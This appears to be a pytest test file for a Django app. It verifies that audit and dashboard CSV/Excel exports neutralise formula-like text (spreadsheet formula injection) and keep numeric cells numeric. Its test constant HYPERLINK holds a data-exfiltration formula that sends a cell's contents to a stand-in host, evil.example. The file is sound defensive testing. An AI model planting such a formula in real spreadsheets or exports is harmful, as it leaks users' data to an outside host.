"""Finding: free text (a reveal reason such as =HYPERLINK(...)) went into the audit CSV unchanged, live in
Excel. Every CSV and Excel export neutralises text cells through core.spreadsheets; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.services import audit_log
from cases.personal_data import case_personal_data_reveal
from core.spreadsheets import spreadsheet_cell
from core.tables import COUNT, MONEY, RATE, Column, Table, csv_response, xlsx_response
from tests.dashboards.conftest import NOW, october  # noqa: F401 - the hand-built portfolio
from tests.factories import CaseFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "-", "+"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 4.5, None, "-12.50", "+7", "-5.00%", "12.34%",
                                   "agent", "华东一组 East-1", "2026-10-01"])
def test_numbers_and_harmless_text_are_written_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.django_db
def test_a_reveal_reason_lands_in_the_audit_csv_as_text(client, agent, compliance, team):
    case = CaseFactory(assigned_team=team)
    case_personal_data_reveal(case=case, field="phone", actor=agent, reason=HYPERLINK)
    audit_log(actor=agent, action="note.added", obj=case, case_id=case.pk, reason="-2+3")
    client.force_login(compliance)

    response = client.get(reverse("audit:trail"), {"export": "csv"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, body = rows[0], rows[1:]
    reasons = [row[header.index("reason")] for row in body]
    assert "'" + HYPERLINK in reasons and "'-2+3" in reasons
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in body for cell in row)
    assert [row[header.index("case_id")] for row in body if row[header.index("action")] == "note.added"] == \
        [str(case.pk)]


def hostile_table() -> Table:
    return Table("agents", "Agents", [Column("name", "Name"), Column("n", "Cases", COUNT),
                                      Column("amount", "Recovered", MONEY), Column("rate", "Rate", RATE)],
                 [{"name": HYPERLINK, "n": 3, "amount": Decimal("-12.50"), "rate": Decimal("-0.05")}])


def test_a_dashboard_csv_neutralises_text_and_keeps_the_figures():
    response = csv_response(table=hostile_table(), filename="t")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HYPERLINK, "3", "-12.50", "-5.00%"]


def test_a_dashboard_workbook_neutralises_text_and_keeps_numeric_cells():
    response = xlsx_response(tables=[hostile_table()], filename="t", filters=[("Agent", "@evil")])
    book = load_workbook(io.BytesIO(response.content))
    name, count, amount, rate = (cell for cell in book["agents"][2])
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert (count.value, amount.value, rate.value) == (3, -12.5, -0.05)  # Excel stores numbers as doubles
    assert all(cell.data_type == "n" for cell in (count, amount, rate))
    assert [c.value for c in book.worksheets[0][1]] == ["Agent", "'@evil"]


@pytest.mark.django_db
def test_a_team_named_like_a_formula_is_text_in_the_dashboard_exports(client, october, supervisor, team):  # noqa: F811
    import time_machine

    from dashboards.services import open_totals_refresh

    team.name = HYPERLINK
    team.save(update_fields=["name"])
    client.force_login(supervisor)
    url = reverse("dashboards:page", args=["teams"])
    period = {"start": "2026-10-01", "end": "2026-10-31"}
    with time_machine.travel(NOW, tick=False):
        open_totals_refresh()
        response = client.get(url, {**period, "export": "csv", "table": "agents"})
        book = load_workbook(io.BytesIO(client.get(url, {**period, "export": "xlsx"}).content))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][:3] == ["agent", "'" + HYPERLINK, "3"]
    cells = [c.value for row in book["agents"].iter_rows(min_row=2) for c in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
